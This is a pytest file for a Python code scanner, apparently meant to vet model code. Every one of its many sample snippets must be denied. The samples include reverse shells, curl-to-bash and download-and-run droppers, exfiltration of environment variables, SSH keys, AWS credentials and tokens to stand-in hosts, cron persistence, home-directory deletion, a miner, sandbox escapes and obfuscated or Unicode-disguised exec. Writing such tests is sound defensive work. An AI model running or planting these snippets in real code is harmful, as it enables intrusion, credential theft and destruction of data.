"""Attacks in plain and in disguised Python: each is denied, by the rules named."""

# one case a line

import pytest

from backstamp.core.verdict import Outcome
from kit.scanning import codes, verdict

CASES = {
    "os-system-at-import": ('import os\nos.system("touch /tmp/x")\n', ["PYS102"]),
    "posix": ('import posix\nposix.system("ls > /tmp/a")\n', ["PYS102"]),
    "from": ('from os import system as s\ns("echo hi > /tmp/a")\n', ["PYS102"]),
    "star": ('from os import *\nsystem("echo hi > x")\n', ["PYS102"]),
    "reexport": ('import shutil\nshutil.os.system("echo hi > x")\n', ["PYS102"]),
    "popen": ('import subprocess\nsubprocess.Popen("evil.sh", shell=True)\n', ["PYS102"]),
    "getattr": ('import os\ngetattr(os, "sys"+"tem")("x.sh")\n', ["PYS102", "PYS107"]),
    "getattr2": ('import os\ngetattr(os, "metsys"[::-1])("id")\n', ["PYS101", "PYS107"]),
    "dictfn": ('import os\nd={"a":os.system}\nd["a"]("payload")\n', ["PYS102"]),
    "walrus": ('import os\nif (f:=os.system): f("payload")\n', ["PYS102"]),
    "lambda": ('import os\n(lambda c: os.system(c))("payload")\n', ["PYS102"]),
    "deco": (
        'import os\n@os.system\ndef x(): pass\n@(lambda f: os.system("payload"))\ndef g(): pass\n',
        ["PYS102", "PYS124"],
    ),
    "default": ('import os\ndef f(a=os.system("payload")): pass\n', ["PYS102"]),
    "classbody": ('import os\nclass A:\n    x = os.system("payload")\n', ["PYS102"]),
    "metaclass": (
        'import os\nclass M(type):\n    def __new__(m,n,b,d):\n        os.system("payload")\n        return type.__new__(m,n,b,d)\nclass A(metaclass=M): pass\n',
        ["PYS102"],
    ),
    "init-subclass": (
        'import os\nclass M:\n    def __init_subclass__(c): os.system("payload")\nclass A(M): pass\n',
        ["PYS102"],
    ),
    "fstring": ('c="pay"\nimport os\nos.system(f"{c}load")\n', ["PYS102"]),
    "b64exec": ('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', ["PYS103"]),
    "zlib": (
        'import zlib,base64\nexec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADlkCpw==")))\n',
        ["PYS103"],
    ),
    "marshal": ('import marshal\nexec(marshal.loads(b"\\xe3\\x00\\x00"))\n', ["PYS103"]),
    "rot13": ('import codecs\nexec(codecs.decode("cevag(1)","rot13"))\n', ["PYS103"]),
    "chr": ('exec("".join(map(chr,[112,114,105,110,116,40,49,41])))\n', ["PYS103"]),
    "chr2": ('exec(chr(112)+chr(114)+"int(1)")\n', ["PYS103"]),
    "xor": ('d=b"abcd"\nk=5\nexec(bytes([x^k for x in d]))\n', ["PYS103"]),
    "xor2": (
        'def dec(s,k):\n    out=""\n    for c in s:\n        out+=chr(ord(c)^k)\n    return out\nexec(dec(open("a.bin").read(),3))\n',
        ["PYS103", "PYS130"],
    ),
    "fernet": ('from cryptography.fernet import Fernet\nexec(Fernet(b"k").decrypt(b"xx"))\n', ["PYS103"]),
    "lambda-decoder": (
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=8zzz'))\n",
        ["PYS103"],
    ),
    "dl": (
        'import urllib.request\nexec(urllib.request.urlopen("http://x.example/a.py").read())\n',
        ["PYS104", "PYS118"],
    ),
    "dl2": (
        'import requests\ncode=requests.get("https://a.example").text\neval(compile(code,"x","exec"))\n',
        ["PYS104", "PYS118"],
    ),
    "dropper": (
        'import urllib.request,subprocess\nurllib.request.urlretrieve("https://x.example/y","/tmp/.y")\nsubprocess.Popen(["/tmp/.y"])\n',
        ["PYS101", "PYS104", "PYS118"],
    ),
    "dropper2": (
        'import requests,os\nr=requests.get("http://x.example/m")\nwith open("/tmp/m","wb") as f:\n    f.write(r.content)\nos.system("/tmp/m &")\n',
        ["PYS101", "PYS104", "PYS118"],
    ),
    "fn": ('import os\ndef go():\n    os.system("payload")\ngo()\n', ["PYS102"]),
    "fn2": ('import os\ndef a(c): b(c)\ndef b(c): os.system(c)\na("payload")\n', ["PYS102"]),
    "thread": (
        'import os,threading\ndef go():\n    os.system("payload")\nthreading.Thread(target=go, daemon=True).start()\n',
        ["PYS102"],
    ),
    "atexit": ('import os,atexit\natexit.register(os.system,"payload")\n', ["PYS102"]),
    "revshell": (
        'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("10.0.0.1",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n',
        ["PYS101", "PYS106", "PYS118"],
    ),
    "revshell-latent": (
        'import socket,pty,os\ndef forward(self):\n    s=socket.socket()\n    s.connect(("1.2.3.4",4444))\n    [os.dup2(s.fileno(),f) for f in (0,1,2)]\n    pty.spawn("sh")\n',
        ["PYS101", "PYS106"],
    ),
    "exfil-env": (
        'import os,requests\nrequests.post("https://c.example/x",json=dict(os.environ))\n',
        ["PYS105", "PYS118"],
    ),
    "exfil-env2": (
        'import os,urllib.request,json\nurllib.request.urlopen("http://c.example", data=json.dumps(dict(os.environ)).encode())\n',
        ["PYS105", "PYS118"],
    ),
    "exfil-ssh": (
        'import os,requests\np=os.path.expanduser("~/.ssh/id_rsa")\nif os.path.exists(p):\n    requests.post("https://c.example",data=open(p).read())\n',
        ["PYS105", "PYS108", "PYS118"],
    ),
    "exfil-token": (
        'import os,requests\nrequests.get("https://webhook.site/x?t="+os.environ["HF_TOKEN"])\n',
        ["PYS105", "PYS117"],
    ),
    "exfil-host": (
        'import socket,getpass,requests\nrequests.post("https://c.example/x", json={"h":socket.gethostname(),"u":getpass.getuser()})\n',
        ["PYS105", "PYS118"],
    ),
    "dns": (
        'import socket,os\nsocket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"]+".evil.com")\n',
        ["PYS105", "PYS117"],
    ),
    "aws-in-forward": (
        'import os,requests\nclass M:\n    def forward(self,x):\n        k=open(os.path.join(os.environ["HOME"],".aws","credentials")).read()\n        requests.post("https://c.example",data=k)\n',
        ["PYS105", "PYS108"],
    ),
    "init-os-system": (
        'import os\nclass M:\n    def __init__(self,c):\n        os.system("curl http://x.example/a.sh | bash")\n',
        ["PYS101"],
    ),
    "init-touch": (
        'import os\nclass M:\n    def __init__(self,c):\n        os.system("touch /tmp/pwned")\n',
        ["PYS101"],
    ),
    "forward-popen": (
        'import subprocess\nclass M:\n    def forward(self,c):\n        subprocess.run("custom_thing --go", shell=True)\n',
        ["PYS102"],
    ),
    "bashrc": ('import os\nopen(os.path.expanduser("~/.bashrc"),"a").write("x")\n', ["PYS110"]),
    "cron": ("import os\nos.system(\"(crontab -l; echo '* * * * * /tmp/x') | crontab -\")\n", ["PYS101"]),
    "rmrf": ('import shutil,os\nshutil.rmtree(os.path.expanduser("~"))\n', ["PYS113"]),
    "subclasses": (
        '().__class__.__base__.__subclasses__()[132].__init__.__globals__["system"]("x")\n',
        ["PYS102", "PYS107"],
    ),
    "globals": ('globals()["__builtins__"].__dict__["ex"+"ec"]("print(1)")\n', ["PYS107"]),
    "sysmodules": ('import sys,os\nsys.modules["os"].system("payload")\n', ["PYS102"]),
    "imp": ('__import__("os").system("payload")\n', ["PYS102"]),
    "importlib": ('import importlib\nimportlib.import_module("subprocess").call(["payload"])\n', ["PYS102"]),
    "partial": ('from functools import partial\nimport os\npartial(os.system,"payload")()\n', ["PYS102"]),
    "map": ('import os\nlist(map(os.system,["payload"]))\n', ["PYS102"]),
    "comp": ('import os\n[os.system(c) for c in ["a","payload"]]\n', ["PYS102"]),
    "attrgetter": ('import operator,os\noperator.attrgetter("system")(os)("payload")\n', ["PYS102"]),
    "methodcaller": ('import operator,os\noperator.methodcaller("system","payload")(os)\n', ["PYS102"]),
    "ctypes": ('import ctypes\nctypes.CDLL("libc.so.6").system(b"payload")\n', ["PYS102"]),
    "ctypes2": ('import ctypes\nlibc=ctypes.CDLL(None)\nlibc.system(b"payload")\n', ["PYS102"]),
    "shellcode": (
        'import ctypes\nb=bytearray(b"x")\np=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)\n',
        ["PYS114"],
    ),
    "pickle-net": (
        'import pickle,requests\npickle.loads(requests.get("http://x.example").content)\n',
        ["PYS104", "PYS118"],
    ),
    "scanner": ("import picklescan.scanner\npicklescan.scanner.scan_file_path=lambda *a: None\n", ["PYS111"]),
    "bidi": (
        'access = "user"\nif access != "user\u202e \u2066# check\u2069 \u2066":\n    print(1)\n',
        ["PYS131"],
    ),
    "offscreen": (
        'x = 1                                                                                                                                                                                                        ;import os; os.system("payload")\n',
        ["PYS102", "PYS131"],
    ),
    "lookalike": ('\uff45\uff58\uff45\uff43("print(1)")\n', ["PYS131"]),
    "codec": ("# coding: utf-7\n+AGkAbQBwAG8AcgB0 os\n", ["PYS131"]),
    "nested-exec": ("exec(\"import os\\nos.system('payload')\")\n", ["PYS102"]),
    "evalstr": ("eval(\"__import__('os').system('payload')\")\n", ["PYS102"]),
    "timeit": ("import timeit\ntimeit.timeit(\"__import__('os').system('payload')\",number=1)\n", ["PYS102"]),
    "py2": ('import os\nprint "hi"\nos.system("payload")\n', ["PYS102"]),
    "formfeed": ('import\x0cos\nos.system("payload")\n', ["PYS102"]),
    "semicolon": ('x=1;import os;os.system("payload")\n', ["PYS102"]),
    "backslash": ('import \\\n  os\nos.system("payload")\n', ["PYS102"]),
    "asyncio": (
        'import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell("payload")\nasyncio.run(m())\n',
        ["PYS102"],
    ),
    "getattr-mod": (
        '__getattr__ = 1\ndef __getattr__(n):\n    import os\n    os.system("payload")\n',
        ["PYS102"],
    ),
    "instance": (
        'import os\nclass A:\n    def __init__(self): self.r=os.system\n    def go(self): self.r("payload")\nA().go()\n',
        ["PYS102"],
    ),
    "handler": (
        'import os\nclass EndpointHandler:\n    def __init__(self,path=""):\n        os.system("wget http://1.2.3.4/x.sh -O- | sh")\n    def __call__(self,data): return data\n',
        ["PYS101"],
    ),
    "miner": (
        'import subprocess\ndef f():\n    subprocess.Popen(["./xmrig","-o","stratum+tcp://p:3333"])\n',
        ["PYS101"],
    ),
}


@pytest.mark.parametrize(("source", "found"), CASES.values(), ids=CASES.keys())
def test_denies_code_which_attacks_when_it_is_loaded(source, found):
    data = source.encode()
    assert (verdict(data, "modeling_x.py").outcome, codes(data, "modeling_x.py")) == (Outcome.DENY, found)
